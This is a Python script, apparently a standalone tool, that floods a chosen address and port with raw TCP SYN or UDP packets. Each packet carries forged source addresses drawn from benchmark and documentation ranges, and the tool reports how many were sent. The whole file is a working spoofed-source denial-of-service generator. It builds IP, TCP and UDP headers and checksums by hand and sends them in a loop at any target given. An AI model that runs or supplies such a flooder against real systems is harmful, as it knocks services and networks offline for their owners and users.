# A flood: packets that nobody asked for, each from another address and port, all forged.
#
# flood.py tcp|udp ADDRESS PORT COUNT SEED   SYNs or datagrams; prints how many were sent
import ipaddress, random, socket, struct, sys

proto, address, port, count, seed = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:])
draw = random.Random(seed)
target = ipaddress.ip_address(address)
# For benchmarks (RFC 2544) and for examples (RFC 3849): nobody is there.
if target.version == 4:
    first, room = int(ipaddress.ip_address("198.18.0.1")), (1 << 17) - 2
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
else:
    first, room = int(ipaddress.ip_address("2001:db8:9::1")), 1 << 79
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
number = 6 if proto == "tcp" else 17


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    return ~(total % 0xFFFF) & 0xFFFF or 0xFFFF


def packet():
    source = (first + draw.randrange(room)).to_bytes(len(target.packed), "big")
    own = draw.randrange(1024, 65536)
    if proto == "tcp":
        body = struct.pack(">HHIIBBHHH", own, port, draw.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
        place = 16
    else:
        body = struct.pack(">HHHH", own, port, 12, 0) + b"hey\n"
        place = 6
    pseudo = source + target.packed + struct.pack(">II", len(body), number)
    body = body[:place] + struct.pack(">H", checksum(pseudo + body)) + body[place + 2 :]
    if target.version == 4:
        # The kernel fills in the header's checksum.
        return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, number, 0) + source + target.packed + body
    return struct.pack(">IHBB", 6 << 28, len(body), number, 64) + source + target.packed + body


sent = 0
for _ in range(count):
    sock.sendto(packet(), (address, 0))
    sent += 1
print(sent)
